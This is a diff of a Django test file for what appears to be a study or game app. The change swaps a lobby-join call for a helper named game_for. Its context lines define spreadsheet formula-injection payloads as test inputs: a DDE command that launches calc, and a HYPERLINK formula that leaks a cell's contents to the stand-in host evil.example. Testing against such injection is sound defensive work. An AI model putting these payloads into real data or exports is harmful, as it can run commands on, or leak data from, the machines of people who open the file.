@@ -12,7 +12,7 @@ from django.core.management import call_command
 from arena.models import Message
 from studies.models import SurveyAnswer
 
-from .helpers import player_client, study_make
+from .helpers import game_for, player_client, study_make
 
 REASON = "=1+1+cmd|' /C calc'!A0"
 MESSAGE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -25,7 +25,7 @@ def hostile_study():
 
     study = study_make(human_witness_share=0.0)
     _, participant = player_client(study)
-    game = services.lobby_join(participant_id=participant.pk)
+    game = game_for(participant)
     conversation = game.interrogation.conversations.get()
     arena.message_post(
         conversation_id=conversation.pk,
